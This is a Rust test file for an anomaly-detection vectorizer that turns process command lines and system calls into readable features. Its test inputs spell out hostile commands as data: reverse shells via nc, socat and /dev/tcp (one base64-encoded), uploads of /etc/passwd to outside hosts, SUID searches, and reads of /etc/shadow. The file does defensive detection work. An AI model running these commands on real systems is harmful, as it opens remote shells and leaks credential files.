//! Which features an execution has, in the words that people read.

use anomaly_vectorizer::{
    Act, Embedder, Hashed, Kind,
    canonical::{Raw, area},
    scrub::Scrubber,
};

/// The features that arguments give; pairs only where `with_pairs` is set.
fn features(line: &[&str], with_pairs: bool) -> Vec<String> {
    let name = line[0].rsplit('/').next().unwrap_or_default();
    let raw = Raw { name: name.as_bytes(), arguments: &area(line), ..Raw::default() };
    let described = Hashed::default().describe(&raw.execution(&Scrubber::default()));
    described
        .into_iter()
        .skip(2)
        .map(|described| described.text)
        .filter(|text| with_pairs || !text.starts_with("sequence "))
        .collect()
}

#[test]
fn the_process_comes_first() {
    let raw = Raw { name: b"curl", parent: b"nginx", grandparent: b"systemd", uid: 33, ..Raw::default() };
    let raw = Raw { arguments: b"curl\0--upload-file\0/etc/passwd\0http://203.0.113.7/\0", ..raw };
    let described = Hashed::default().describe(&raw.execution(&Scrubber::default()));
    let words: Vec<_> = described.iter().map(|described| described.text.as_str()).collect();
    let expected = [
        "name curl",
        "parent nginx",
        "grandparent systemd",
        "uid 33",
        "flag --upload-file",
        "directory /etc",
        "file passwd",
        "sequence --upload-file /etc",
        "scheme http",
        "host class public",
        "sequence /etc class public",
    ];
    assert_eq!(words, expected);
}

#[test]
fn arguments_by_what_they_are() {
    for (line, expected) in [
        (&["x"][..], &[][..]),
        (&["/usr/sbin/x"], &["directory /usr/sbin", "file x"]),
        (
            &["x", "-v", "--level=3", "-I/usr/include", "-DN=1"],
            &["flag -v", "flag --level", "word #", "flag -I", "directory /usr", "file include", "flag -DN"],
        ),
        (
            &["x", "--opt=-fres=/etc/y.res"],
            &["flag --opt", "flag -fres", "directory /etc", "file y.res", "extension .res"],
        ),
        (
            &["dd", "if=/dev/zero", "bs=1M"],
            &["variable if", "directory /dev", "file zero", "variable bs", "word #"],
        ),
        (&["x", "a=b=c=d=e=f"], &["variable a", "variable b", "variable c", "variable d", "word e=f"]),
        (
            &["x", "https://user@www.example.co.uk:8443/a/b.tar.gz?q=1#f"],
            &["scheme https", "host example.co.uk", "extension .gz"],
        ),
        (&["curl", "http://localhost:9200/_search"], &["scheme http", "host class loopback", "number 9200"]),
        (&["x", "file:///etc/passwd"], &["directory /etc", "file passwd"]),
        (
            &["x", "10.0.0.0/8", "::1", "[2001:db8::1]:80"],
            &["host class private", "host class loopback", "host class public"],
        ),
        (&["scp", "a", "user@host:/srv/b"], &["word a", "host host", "directory /srv", "file b"]),
        (
            &["docker", "-v", "/srv/db:/var/lib/db"],
            &["flag -v", "directory /srv", "file db", "directory /var/lib"],
        ),
        (
            &["nc", "-lvp", "4444", "-e", "/bin/sh"],
            &["flag -lvp", "number 4444", "flag -e", "directory /bin", "file sh"],
        ),
        (&["ping", "-c", "1", "example.org"], &["flag -c", "word #", "word example.org"]),
        (&["curl", "example.org"], &["host example.org"]),
        (&["find", "/", "-perm", "-4000"], &["directory /", "flag -perm", "number -4000"]),
        (&["sudo", "chmod", "4755", "/srv/x"], &["word chmod", "number 4755", "directory /srv", "file x"]),
        (
            &["socat", "TCP:10.0.0.1:4444", "EXEC:/bin/sh,pty"],
            &[
                "word TCP",
                "host class private",
                "number 4444",
                "word EXEC",
                "directory /bin",
                "file sh",
                "word pty",
            ],
        ),
        (
            &["echo", "IyEvYmluL2Jhc2gKYmFzaCAtaSA+JiAvZGV2L3RjcC8xMC4wLjAuMS80NDQ0IDA+JjEK"],
            &["word <base64>"],
        ),
        (&["x", "", "-", "--"], &["word -", "flag --"]),
    ] {
        assert_eq!(features(line, false), expected, "{line:?}");
    }
}

#[test]
fn scripts_by_what_they_run() {
    for (script, expected) in [
        ("id", &["command id", "word id"][..]),
        (
            "cat /etc/passwd | /usr/bin/nc 10.0.0.1 4444",
            &[
                "command cat",
                "word cat",
                "directory /etc",
                "file passwd",
                "operator |",
                "command nc",
                "directory /usr/bin",
                "file nc",
                "host class private",
                "number 4444",
            ],
        ),
        (
            "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
            &[
                "command bash",
                "word bash",
                "flag -i",
                "operator >&",
                "operator /dev/tcp",
                "host class public",
                "number 4444",
                "operator 0>&1",
            ],
        ),
        (
            "A=1 sudo -n kill -9 77 && echo \"$HOME\" `w` 2>/dev/null &",
            &[
                "variable A",
                "word #",
                "word sudo",
                "flag -n",
                "command kill",
                "word kill",
                "flag -9",
                "operator &&",
                "command echo",
                "word echo",
                "variable HOME",
                "operator $(",
                "command w",
                "word w",
                "operator 2>",
                "directory /dev",
                "file null",
                "operator &",
            ],
        ),
        (
            "if [ -f x ]; then\nls\nfi\n",
            &[
                "word if",
                "flag -f",
                "command x",
                "word x",
                "operator ;",
                "word then",
                "command ls",
                "word ls",
                "command fi",
                "word fi",
            ],
        ),
        ("awk '{print $1, ${X}}'", &["command awk", "word awk", "word print", "variable X"]),
    ] {
        let mut expected: Vec<&str> = expected.to_vec();
        expected.insert(0, "flag -c");
        assert_eq!(features(&["sh", "-c", script], false), expected, "{script}");
    }
    let user_agent = ["curl", "-A", "Mozilla/5.0 (X11; Linux)", "http://10.0.0.1:81/"];
    let words = features(&user_agent, false);
    assert!(words.contains(&"word Linux".into()) && words.contains(&"number 81".into()), "{words:?}");
    assert!(!words.iter().any(|word| word.starts_with("command")), "only a shell's script runs: {words:?}");
}

#[test]
fn pairs_are_of_what_stays() {
    assert_eq!(
        features(&["tail", "-n", "50", "-f", "/var/log/app.2026-11-21.log"], true),
        [
            "flag -n",
            "word #",
            "sequence -n #",
            "flag -f",
            "sequence # -f",
            "directory /var/log",
            "file app.#.log",
            "extension .log",
            "sequence -f /var/log",
        ]
    );
}

fn act(kind: Kind, object: &str, flags: &[&str]) -> Vec<String> {
    let act = Act {
        kind,
        name: b"nginx",
        parent: b"sh",
        uid: 33,
        executable: b"/usr/sbin/nginx",
        ..Act::default()
    };
    let act = Act { object: object.as_bytes(), flags, ..act }.execution(&Scrubber::default());
    let described = Hashed::default().describe(&act);
    // Name, parent, uid and program are the same for all of them.
    assert_eq!(described[3].text, "program nginx in /usr/sbin as 33");
    described.into_iter().skip(4).map(|described| described.text).collect()
}

#[test]
fn acts_are_what_came_together() {
    for (kind, object, flags, expected) in [
        (
            Kind::Open,
            "/etc/shadow",
            &["read"][..],
            &[
                "manner open read",
                "act nginx open read in /etc",
                "directory /etc",
                "file shadow",
                "object nginx open read in /etc shadow",
            ][..],
        ),
        (
            Kind::Open,
            "/etc/*",
            &["read"],
            &["manner open read", "act nginx open read in /etc", "directory /etc"],
        ),
        (
            Kind::Connect,
            "10.96.0.1:443",
            &["tcp"],
            &[
                "manner connect tcp",
                "act nginx connect tcp at private 10.96.0.0 port 443",
                "host private",
                "number 443",
                "object nginx connect tcp at private 10.96.0.0 port 443 10.96.0.1:443",
            ],
        ),
        (
            Kind::Connect,
            "203.0.113.7:41000",
            &["tcp"],
            &[
                "manner connect tcp",
                "act nginx connect tcp at public port high",
                "host public",
                "number high",
            ],
        ),
        (
            Kind::Ptrace,
            "sshd",
            &["attach"],
            &[
                "manner ptrace attach",
                "act nginx ptrace attach",
                "word sshd",
                "object nginx ptrace attach sshd",
            ],
        ),
        (Kind::Other, "", &["bpf"], &["manner other bpf", "act nginx other bpf"]),
    ] {
        assert_eq!(act(kind, object, flags), expected, "{kind} {object}");
    }
}

#[test]
fn what_is_made_up_anew_is_no_news_in_an_act() {
    let pairs = [
        (Kind::Open, "/tmp/tmpab12cdzf/x", "/tmp/tmpq9ffzzaa/x"),
        (Kind::Open, "/proc/1234/status", "/proc/77/status"),
        (Kind::Open, "/var/log/app-2026-11-21.log", "/var/log/app-2026-11-22.log"),
        (Kind::Connect, "203.0.113.7:443", "198.51.100.9:443"),
        (Kind::Accept, "203.0.113.7:443", "198.51.100.9:443"),
        (Kind::Link, "/var/lib/dpkg/tmp.ci/a.9f8e7d6c5b", "/var/lib/dpkg/tmp.ci/a.1a2b3c4d5e"),
    ];
    for (kind, one, other) in pairs {
        assert_eq!(act(kind, one, &["read"]), act(kind, other, &["read"]), "{one} {other}");
    }
}
